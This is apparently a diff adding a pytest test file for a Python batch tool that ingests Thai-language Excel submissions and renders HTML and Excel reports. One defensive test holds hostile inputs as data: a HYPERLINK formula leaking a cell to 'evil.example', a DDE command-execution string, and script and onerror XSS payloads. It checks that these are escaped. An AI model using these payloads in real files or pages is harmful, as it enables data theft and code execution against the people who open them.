@@ -1,0 +1,173 @@
+"""tps report on the demo: every output, planted problems where they belong, safe and
+reproducible outputs, and per-project pages re-rendered only when their input changed."""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import shutil
+from pathlib import Path
+
+import factories as fx
+import pytest
+from click.testing import CliRunner
+
+from tps_batch.cli import main
+from tps_batch.ingest import ingest
+from tps_batch.reports import generate
+from tps_batch.reports.completeness import completeness_rows
+from tps_batch.reports.data import load
+from tps_batch.reports.overdue import overdue_rows
+from tps_batch.settings import load as load_settings
+
+AS_OF = dt.date(2024, 5, 15)
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory: pytest.TempPathFactory, demo_ws: Path):
+    path = tmp_path_factory.mktemp("rep") / "ws"
+    shutil.copytree(demo_ws, path)
+    ws = load_settings(path)
+    ingest(ws)
+    return ws
+
+
+@pytest.fixture(scope="module")
+def manifest(demo) -> dict:
+    return json.loads((demo.workspace / "demo-manifest.json").read_text(encoding="utf-8"))
+
+
+def test_all_outputs_html_xlsx(demo) -> None:
+    result = CliRunner().invoke(main, ["report", "-w", str(demo.workspace), "--as-of",
+                                       "15/05/2567", "--format", "xlsx,html"])
+    assert result.exit_code == 0, result.output
+    out = demo.output_dir
+    for name in ("indicators", "overdue", "completeness", "annual"):
+        assert (out / f"{name}.html").stat().st_size > 2000, name
+        assert (out / f"{name}.xlsx").stat().st_size > 5000, name
+    assert "dashboard" in result.output and (out / "index.html").is_file()
+    data = load(demo, AS_OF)
+    reported = set(data.table("projects")["project_code"])
+    pages = {p.stem for p in (out / "projects").glob("*.html")}
+    assert pages == reported and len(pages) >= 30
+    index = (out / "index.html").read_text("utf-8")
+    for link in ("indicators.html", "overdue.xlsx", "completeness.html", "annual.xlsx",
+                 "receipts/"):
+        assert link in index, link
+    assert index.count("<svg") == 4  # status, disbursement, overdue, completeness charts
+
+
+def test_planted_problems_reach_the_overdue_list(demo, manifest) -> None:
+    data = load(demo, AS_OF)
+    overdue = overdue_rows(data)
+    plan = {p["code"]: p for p in data.plan.projects}
+    for item in manifest["planted"]:
+        code = item.get("project_code")
+        if item["kind"] == "late-activity":
+            rows = overdue[(overdue["kind"] == "late-activity")
+                           & (overdue["project_code"] == code)]
+            assert len(rows) >= 1, item
+            assert set(rows["group"]) == {item["group"]}
+            assert set(rows["person"]) == {plan[code]["owner"]}
+        if item["kind"] == "missing-report":
+            rows = overdue[(overdue["kind"] == "missing-report")
+                           & (overdue["project_code"] == code)]
+            assert len(rows) == 1, item
+            assert rows.iloc[0]["group"] == data.plan.canonical_group(plan[code]["group"])
+            assert rows.iloc[0]["person"] == plan[code]["owner"]
+        if item["kind"] in ("invalid-choice", "invalid-number", "spent-over-allocated"):
+            # rejected files the group has not fixed yet
+            rows = overdue[(overdue["kind"] == "rejected-not-resubmitted")
+                           & (overdue["item"] == item["file"])]
+            assert len(rows) == 1, item
+        if item["kind"] == "cancelled-project":
+            assert code not in set(overdue["project_code"])
+    # every late activity listed really is late in the dataset, and no one else's is
+    acts = data.table("activities")
+    late = acts[(acts["planned_end"] < AS_OF)
+                & acts["status"].isin(["not_started", "in_progress", "postponed"])]
+    listed = overdue[overdue["kind"] == "late-activity"]
+    live = set(data.projects[~data.projects["cancelled"]]["code"])
+    assert len(listed) == len(late[late["project_code"].isin(live)])
+
+
+def test_planted_missing_reports_lower_completeness(demo, manifest) -> None:
+    data = load(demo, AS_OF)
+    table = completeness_rows(data)
+    missing = [i for i in manifest["planted"] if i["kind"] == "missing-report"]
+    for item in missing:
+        group = item["group"]
+        rows = table[(table["group"] == group)]
+        assert len(rows) and (rows["received"] < rows["expected"]).any(), item
+    assert (table["received"] <= table["expected"]).all()
+    assert (table["on_time"] <= table["received"]).all()
+    assert table["rate"].dropna().le(100).all()
+
+
+def test_same_dataset_same_as_of_same_content(demo, tmp_path: Path) -> None:
+    from python_calamine import CalamineWorkbook
+
+    def snapshot() -> dict[str, object]:
+        generate(demo, as_of=AS_OF, formats=("xlsx", "html"),
+                 only=("indicators", "overdue", "completeness", "annual", "dashboard"))
+        out = demo.output_dir
+        snap: dict[str, object] = {p.name: p.read_text("utf-8") for p in out.glob("*.html")}
+        for p in out.glob("*.xlsx"):
+            book = CalamineWorkbook.from_path(str(p))
+            snap[p.name] = {n: book.get_sheet_by_name(n).to_python() for n in book.sheet_names}
+        return snap
+
+    first = snapshot()
+    second = snapshot()
+    assert first.keys() == second.keys() and len(first) == 9  # 5 pages, 4 workbooks
+    for name in first:
+        assert first[name] == second[name], name
+
+
+def test_injection_stays_text(tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    ws = fx.make_workspace(tmp_path / "ws")
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
+    fx.submission(ws.path("inbox") / "evil.xlsx", tables={
+        "problems": [{"text": evil}, {"text": "<script>alert('x')</script>"}],
+        "suggestions": [{"text": "+cmd|' /C calc'!A0"}],
+        "activities": fx.activity(name="<img src=x onerror=alert(1)>")},
+        received=dt.datetime(2024, 1, 12, 9))
+    assert ingest(ws).accepted == 1
+    generate(ws, as_of=dt.date(2024, 1, 20), formats=("xlsx", "html"))
+    out = ws.output_dir
+    annual = (out / "annual.html").read_text("utf-8")
+    assert "<script>alert" not in annual and "&lt;script&gt;" in annual
+    assert "<img src=x" not in annual
+    page = (out / "projects" / "P01.html").read_text("utf-8")
+    assert "<img src=x" not in page and "&lt;img src=x" in page
+    book = load_workbook(out / "annual.xlsx")
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value in (evil, "+cmd|' /C calc'!A0")]
+    assert len(cells) == 2
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_per_project_pages_rerender_only_when_changed(tmp_path: Path) -> None:
+    ws = fx.make_workspace(tmp_path / "ws")
+    fx.submission(ws.path("inbox") / "p01.xlsx", received=dt.datetime(2024, 1, 12, 9))
+    ingest(ws)
+    first = generate(ws, as_of=dt.date(2024, 1, 20), formats=("html",), only=("projects",))
+    page = ws.output_dir / "projects" / "P01.html"
+    assert page in first.written and first.skipped == 0
+    stamp = page.stat().st_mtime_ns
+    again = generate(ws, as_of=dt.date(2024, 1, 21), formats=("html",), only=("projects",))
+    assert again.skipped == 1 and page not in again.written
+    assert page.stat().st_mtime_ns == stamp
+    fx.submission(ws.path("inbox") / "p01-v2.xlsx", values={"as_of": dt.date(2024, 1, 19)},
+                  tables={"problems": [{"text": "ปัญหาใหม่ล่าสุด"}]},
+                  received=dt.datetime(2024, 1, 20, 9))
+    ingest(ws)
+    third = generate(ws, as_of=dt.date(2024, 1, 21), formats=("html",), only=("projects",))
+    assert page in third.written and "ปัญหาใหม่ล่าสุด" in page.read_text("utf-8")
+
+
+def test_unknown_report_is_a_usage_error(demo) -> None:
+    result = CliRunner().invoke(main, ["report", "-w", str(demo.workspace), "--only", "budget"])
+    assert result.exit_code == 2 and "unknown report" in result.output
